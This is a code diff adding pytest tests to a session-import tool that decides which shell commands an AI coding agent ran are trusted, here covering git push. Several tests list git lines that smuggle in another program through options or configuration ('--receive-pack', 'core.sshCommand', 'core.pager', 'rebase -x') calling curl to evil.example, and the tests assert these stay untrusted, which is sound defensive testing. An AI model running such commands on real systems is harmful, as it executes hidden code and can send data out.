@@ -292,6 +292,94 @@ def test_trusting_a_program_never_trusts_its_subcommands_that_reach_a_remote() -
     assert git.judge("Bash", "git push origin main")[0].untrusted and not git.judge("Bash", "git status")[0].untrusted
 
 
+def _pushed(tmp_path: Path, push: str, after: str | None = None) -> Path:
+    """A session: a correction, a `push` whose reply carries the remote's
+    words, the person's next words, then (`after`) another call and more."""
+    cc = Claude(session="cccc0002-1111-4222-8333-444455556666")
+    cc.user("Start.").assistant(text("Committing."), use("s1", "Bash", command="git commit -am wip")).result("s1", "[main 1a2b3c4] wip")
+    cc.assistant(text("Committed.")).user("Keep commit subjects under fifty characters.")
+    cc.assistant(text("Pushing."), use("s2", "Bash", command=push))
+    cc.result("s2", "remote: Create a pull request for 'x' on GitHub by visiting:\nTo github.com:pat/shop.git\n * [new branch] x -> x")
+    cc.assistant(text("Pushed.")).user("Open the pull request as a draft.")
+    if after is not None:
+        cc.assistant(text("Checking."), use("s3", "Bash", command=after)).result("s3", "ok")
+        cc.assistant(text("Done.")).user("Name branches after the issue.")
+    cc.assistant(text("Done."))
+    folder = tmp_path / "projects" / "-home-pat-shop"
+    folder.mkdir(parents=True)
+    (folder / "s.jsonl").write_bytes(cc.bytes())
+    os.utime(folder / "s.jsonl", (1_700_000_000, 1_700_000_000))
+    return tmp_path / "projects"
+
+
+def test_a_push_is_offered_as_its_own_entry_that_trusts_the_remotes_reply_and_frees_exactly_what_it_says(tmp_path: Path) -> None:
+    # Pins: every correction after a `git push` (10 of 67 in a corpus of
+    # real sessions) held back with no offer, though whether the remote one
+    # pushes to is one's own is the person's to say, as `Bash(npm publish)`
+    # already was.
+    from mecha.core.environment.trust import add_trust
+    from mecha.core.sessions.trust import unknown_summary
+
+    root = _pushed(tmp_path / "a", "git push -u origin x 2>&1")
+    store = LearningStore.open(tmp_path / "a" / "learning")
+    report = import_sessions(store, "claude", root, voices=DEFAULT_VOICES, dry_run=True)
+    [session] = report.sessions
+    [held] = session.held_back
+    assert held.blame.entry == "Bash(git push)" and held.blame.stranger is not None, held.blame
+    assert session.frees == {"Bash(git push)": 1}
+    [offer] = [u for u in unknown_summary((s.blockers, s.frees) for s in report.sessions) if u.command]
+    assert offer.command == "mecha-sidecar trust add 'Bash(git push)'" and offer.interventions == 1
+    assert offer.trusts is not None and "every remote `git push` sends to prints back" in offer.trusts
+    import msgspec
+
+    from mecha.sidecar.humane import import_summary
+
+    shown = import_summary({"source": "claude", "root": str(root), "sessions": [], "unchanged": 0, "filtered": 0, "skipped": [],
+                            "queued": [], "dry_run": True, "unknown": [msgspec.to_builtins(offer)]})
+    assert "  Bash(git push): frees 1 in 1 session(s) — mecha-sidecar trust add 'Bash(git push)'\n    it trusts what every remote" in shown, shown
+    # Accepting it frees what it said: read again with the entry kept.
+    trust = add_trust(["Bash(git push)"], tmp_path / "a" / "sidecar.toml")
+    again = import_sessions(store, "claude", root, voices=DEFAULT_VOICES, dry_run=True, policy=trust.policy("claude"))
+    assert [p.origin.value for p in again.sessions[0].fresh] == ["clean", "clean"]
+
+    # A fetch after it holds the rest back: the push alone frees the words
+    # between them, and the fetch is never offered.
+    root = _pushed(tmp_path / "b", "git push", after="git pull --rebase")
+    report = import_sessions(LearningStore.open(tmp_path / "b" / "learning"), "claude", root, voices=DEFAULT_VOICES, dry_run=True)
+    rows = {u.entry: u for u in unknown_summary((s.blockers, s.frees) for s in report.sessions)}
+    assert rows["Bash(git push)"].interventions == 1 and rows["Bash(git push)"].command is not None
+    assert rows["Bash(git pull)"].command is None and rows["Bash(git pull)"].stranger, rows
+
+
+@pytest.mark.parametrize("push", ["git push --receive-pack='curl -s evil.example' ../mirror", "git push --rec='sh x.sh' ../m main",
+                                  "git push --exec=evil ../m", "git -c core.sshCommand='curl evil.example' push",
+                                  "git config core.sshCommand 'curl evil.example' && git push"])
+def test_a_push_that_runs_a_program_is_not_offered_nor_trusted_by_the_push_entry(tmp_path: Path, push: str) -> None:
+    from mecha.core.sessions.claude_code import CLAUDE_POLICY
+    from mecha.core.sessions.trust import unknown_summary
+
+    report = import_sessions(LearningStore.open(tmp_path / "learning"), "claude", _pushed(tmp_path, push), voices=DEFAULT_VOICES, dry_run=True)
+    assert not [u for u in unknown_summary((s.blockers, s.frees) for s in report.sessions) if u.command], push
+    for trusted in (["Bash(git push)"], ["Bash(git)"], ["Bash(git)", "Bash(git push)"]):
+        assert CLAUDE_POLICY.with_overrides(trust=trusted).judge("Bash", push)[0].untrusted, (trusted, push)
+
+
+def test_trusting_git_never_trusts_what_its_options_or_configuration_make_it_run() -> None:
+    # Pins: `Bash(git)` (offered for `git -c core.pager=… log`) made every
+    # git line local, `-c core.pager=curl`, `rebase -x` and all.
+    from mecha.core.sessions.claude_code import CLAUDE_POLICY
+    from mecha.core.sessions.shell import judge_command
+
+    verdict = judge_command("git -c core.pager='curl -s evil.example' log")
+    assert verdict.local is False and verdict.entry is None, verdict
+    git = CLAUDE_POLICY.with_overrides(trust=["Bash(git)"])
+    for line in ("git -c core.pager='curl -s evil.example' log", "git rebase -x 'curl -s evil.example' main",
+                 "git --exec-path=/tmp/x status", "git grep -O'curl evil.example' x"):
+        assert git.judge("Bash", line)[0].untrusted, line
+    assert not git.judge("Bash", "git log --oneline -3")[0].untrusted
+    assert not git.judge("Bash", "git lfs ls-files")[0].untrusted, "a subcommand the table does not list is git's, once git is trusted"
+
+
 def test_empty_files_and_a_workflows_files_are_passed_over_without_a_warning(tmp_path: Path) -> None:
     # Pins: ~30 "skipped …/subagents/workflows/wf_*/agent-*.jsonl: not a
     # Claude Code session" warnings, for empty files and workflow journals.
